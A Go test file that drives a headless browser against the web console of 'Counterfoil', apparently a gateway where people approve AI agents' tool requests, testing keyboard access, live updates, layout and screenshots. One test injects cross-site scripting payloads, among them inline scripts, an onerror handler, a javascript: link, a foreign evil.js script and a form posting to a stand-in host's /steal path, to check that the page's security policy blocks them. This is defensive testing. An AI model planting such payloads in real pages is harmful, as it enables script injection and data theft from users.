package console_test

import (
	"context"
	"errors"
	"flag"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/counterfoil/counterfoil/internal/gateway"
)

const chromium = "/usr/bin/chromium"

var shots = flag.String("shots", "", "write pictures of all pages into this directory")

// browse starts a browser of its own.
func browse(t *testing.T) context.Context {
	t.Helper()
	if _, err := os.Stat(chromium); err != nil {
		t.Skip("there is no " + chromium)
	}
	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(chromium), chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.Flag("disable-quic", true), chromedp.NoFirstRun, chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true), chromedp.Flag("disable-sync", true), chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1100, 900))
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewExecAllocator(ctx, options...)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewContext(ctx)
	t.Cleanup(cancel)
	return ctx
}

type step = chromedp.Action[chromedp.Void]

func run(t *testing.T, ctx context.Context, steps ...step) {
	t.Helper()
	if err := chromedp.Do(ctx, steps...); err != nil {
		t.Fatal(err)
	}
}

// ask the page: the value of a JavaScript expression.
func eval[T any](t *testing.T, ctx context.Context, expression string) T {
	t.Helper()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expression))
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// at waits until the page with the given path is loaded.
func at(path string) step {
	return until("location.pathname === `" + path + "` && document.readyState === 'complete'")
}

// until waits for an expression to be true; a page that goes away meanwhile is no error.
func until(expression string) step {
	return chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		for {
			if ok, err := chromedp.Evaluate[bool](expression)(ctx, target); ok && err == nil {
				return nil
			}
			select {
			case <-ctx.Done():
				return errors.New("never true: " + expression)
			case <-time.After(20 * time.Millisecond):
			}
		}
	})
}

// tabTo presses the tab key until the element has the focus.
func tabTo(selector string) step {
	return chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		for range 40 {
			there, err := chromedp.Evaluate[bool]("document.activeElement.matches(`"+selector+"`)")(ctx, target)
			if err != nil || there {
				return err
			}
			if _, err := chromedp.KeyEvent(kb.Tab)(ctx, target); err != nil {
				return err
			}
		}
		return errors.New("the keyboard does not reach " + selector)
	})
}

func signInSteps(address string) step {
	return chromedp.Steps(chromedp.Navigate(address+"/login?code=c0de"), chromedp.Click(chromedp.CSS("button.go")), at("/"))
}

// A reviewer signs in, finds a request, approves it and signs out, all without a mouse.
func TestBrowser_by_keyboard(t *testing.T) {
	t.Parallel()
	d := newDesk(t, ask("a-1", "delete_file", "destructive", `{"path":"/tmp/x","note":"`+strings.Repeat("x", 5000)+`"}`))
	d.service.codes["c0de"] = true
	address := "http://" + serve(t, d)
	ctx := browse(t)
	enter := chromedp.KeyEvent(kb.Enter)
	run(t, ctx, chromedp.Navigate(address+"/login?code=c0de"), tabTo("button.go"), enter, at("/"), chromedp.KeyEvent(kb.Tab))
	if focus := eval[string](t, ctx, `document.activeElement.textContent`); focus != "Skip to the content" {
		t.Errorf("the first stop is %q", focus)
	}
	run(t, ctx, tabTo(`a[href="/approvals/a-1"]`), enter, at("/approvals/a-1"))
	if title := eval[string](t, ctx, `document.title`); title != "Request a-1 · Counterfoil" {
		t.Errorf("the title is %q", title)
	}
	fill := chromedp.Steps(tabTo(`form[action$=approve] textarea`), chromedp.KeyEvent("it is only a cache"),
		tabTo(`form[action$=approve] input[type=password]`), chromedp.KeyEvent(passphrase), enter)
	// Without the box ticked, the browser itself refuses to send the form.
	run(t, ctx, fill, chromedp.Sleep(300*time.Millisecond))
	if d.service.tried != 0 || !eval[bool](t, ctx, `document.querySelector("input[name=seen]").matches(":invalid")`) {
		t.Fatal("sent without the box ticked")
	}
	run(t, ctx, chromedp.Reload(), at("/approvals/a-1"), tabTo(`input[name=seen]`), chromedp.KeyEvent(" "), fill, until(`document.querySelector(".outcome") !== null`))
	a, err := d.service.Approval(ctx, "a-1")
	if err != nil || a.State != gateway.Approved || a.DecidedBy != "person:ada" || a.Reason != "it is only a cache" {
		t.Errorf("%s by %s: %s (%v)", a.State, a.DecidedBy, a.Reason, err)
	}
	run(t, ctx, tabTo(`form[action="/logout"] button`), enter, at("/login"), chromedp.Navigate(address+"/"))
	if title := eval[string](t, ctx, `document.title`); title != "Signed out · Counterfoil" {
		t.Errorf("the title is %q", title)
	}
}

// The page tells of a request that came after it was loaded, and shows it by itself when nobody is busy with the page.
func TestBrowser_live(t *testing.T) {
	t.Parallel()
	d := newDesk(t, ask("a-1", "write_file", "mutation", `{}`))
	d.service.codes["c0de"] = true
	address := "http://" + serve(t, d)
	ctx := browse(t)
	run(t, ctx, signInSteps(address), chromedp.Focus(chromedp.CSS(`a[href="/approvals/a-1"]`)))
	d.service.mu.Lock()
	d.service.approvals = append(d.service.approvals, ask("a-2", "write_file", "mutation", `{}`))
	d.service.mu.Unlock()
	run(t, ctx, until(`document.querySelector("#live").textContent === "1 new request"`))
	if eval[bool](t, ctx, `document.querySelector("a[href='/approvals/a-2']") !== null`) {
		t.Error("the list moved under the hand of the reviewer")
	}
	run(t, ctx, chromedp.Evaluate[chromedp.Void](`document.activeElement.blur()`), until(`document.querySelector("a[href='/approvals/a-2']") !== null`))
}

// If markup from outside got into a page after all, the browser would not run it.
func TestBrowser_policy_stops_injected_script(t *testing.T) {
	t.Parallel()
	d := gallery(t)
	var evilHost string
	inject := func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			rec := httptest.NewRecorder()
			next.ServeHTTP(rec, r)
			for k, v := range rec.Header() {
				w.Header()[k] = v
			}
			w.WriteHeader(rec.Code)
			body := strings.Replace(rec.Body.String(), "</main>", `<script>window.ran = "inline"</script><img src="x" onerror="window.ran = 'handler'">`+
				`<a id="js" href="javascript:window.ran = 'link'">x</a><style>body { outline-style: dashed }</style>`+
				`<script src="`+evilHost+`/evil.js"></script><iframe src="/"></iframe><form id="out" action="`+evilHost+`/steal" method="post"></form></main>`, 1)
			_, _ = w.Write([]byte(body))
		})
	}
	var stolen sync.Map
	evilServer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		stolen.Store(r.URL.Path, true)
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = w.Write([]byte(`window.ran = "foreign"`))
	}))
	t.Cleanup(evilServer.Close)
	evilHost = evilServer.URL
	d.service.codes["c0de"] = true
	address := "http://" + serveWrapped(t, d, inject)
	ctx := browse(t)
	var mu sync.Mutex
	var reports []string
	if err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*log.EventEntryAdded); ok {
			mu.Lock()
			defer mu.Unlock()
			reports = append(reports, e.Entry.Text)
		}
	}); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(ctx, log.Enable, cdp.Empty{}); err != nil {
		t.Fatal(err)
	}
	run(t, ctx, signInSteps(address), chromedp.Click(chromedp.CSS("#js")), chromedp.Evaluate[chromedp.Void](`document.getElementById("out").submit()`),
		chromedp.Sleep(500*time.Millisecond))
	ran := eval[string](t, ctx, `String(window.ran)`)
	outline := eval[string](t, ctx, `getComputedStyle(document.body).outlineStyle`)
	framed := eval[bool](t, ctx, `Boolean(document.querySelector("iframe").contentDocument?.querySelector("main"))`)
	if ran != "undefined" || outline == "dashed" || framed {
		t.Errorf("ran %q, outline %q, framed %v", ran, outline, framed)
	}
	stolen.Range(func(path, _ any) bool {
		t.Errorf("the browser asked a foreign server for %v", path)
		return true
	})
	mu.Lock()
	defer mu.Unlock()
	all := strings.Join(reports, "\n")
	for _, want := range []string{"inline script", "inline event handler", "JavaScript URL", "inline style", "evil.js", "frame-ancestors", "form"} {
		if !strings.Contains(strings.ToLower(all), strings.ToLower(want)) {
			t.Errorf("the browser did not report %s:\n%s", want, all)
		}
	}
}

// Nothing is wider than the window, so that no end of a line hides beside it.
func TestBrowser_nothing_hides_beside_the_window(t *testing.T) {
	t.Parallel()
	d := gallery(t)
	d.service.approvals = append(d.service.approvals, ask("apr-wide", strings.Repeat("w", 200), "mutation",
		`{"`+strings.Repeat("k", 500)+`":"`+strings.Repeat("x", 8000)+`","z":"`+strings.Repeat(" x", 300)+strings.Repeat(" ", 70)+`LAST"}`))
	d.service.codes["c0de"] = true
	address := "http://" + serve(t, d)
	ctx := browse(t)
	run(t, ctx, signInSteps(address))
	pages := map[string]string{"wide": "/approvals/apr-wide"}
	for _, name := range []string{"home", "marks", "long", "spent", "upstreams", "upstream", "receipts", "receipt"} {
		pages[name] = galleryPages()[name]
	}
	for _, width := range []int64{1100, 380} {
		for name, path := range pages {
			run(t, ctx, chromedp.EmulateViewport(width, 900), chromedp.Navigate(address+path))
			over := eval[string](t, ctx, `Array.from(document.querySelectorAll("body *")).filter((e) => !e.closest("thead")).filter((e) => e.getBoundingClientRect().right > innerWidth + 1 ||
				(e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).display !== "inline" && !e.matches(".unseen, .skip, select, textarea"))).map((e) => e.tagName + "." + e.className).join(" ")`)
			if over != "" {
				t.Errorf("%s at %d: %s", name, width, over)
			}
		}
	}
}

// With -shots, pictures for a person to look at.
func TestBrowser_shots(t *testing.T) {
	if *shots == "" {
		t.Skip("no -shots")
	}
	d := gallery(t)
	d.service.codes["c0de"] = true
	address := "http://" + serve(t, d)
	ctx := browse(t)
	shot := func(name string) {
		b, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
		if err == nil {
			err = os.WriteFile(filepath.Join(*shots, name+".png"), b, 0o600)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	run(t, ctx, chromedp.Navigate(address+"/login?code=c0de"))
	shot("login")
	run(t, ctx, chromedp.Click(chromedp.CSS("button.go")), at("/"))
	for _, scheme := range []string{"light", "dark"} {
		media := emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}}}
		if _, err := chromedp.Call(ctx, emulation.SetEmulatedMedia, media); err != nil {
			t.Fatal(err)
		}
		for name, path := range galleryPages() {
			run(t, ctx, chromedp.Navigate(address+path))
			shot(name + "-" + scheme)
		}
	}
	for _, name := range []string{"home", "marks", "upstream"} {
		run(t, ctx, chromedp.EmulateViewport(390, 800), chromedp.Navigate(address+galleryPages()[name]))
		shot(name + "-phone")
	}
}
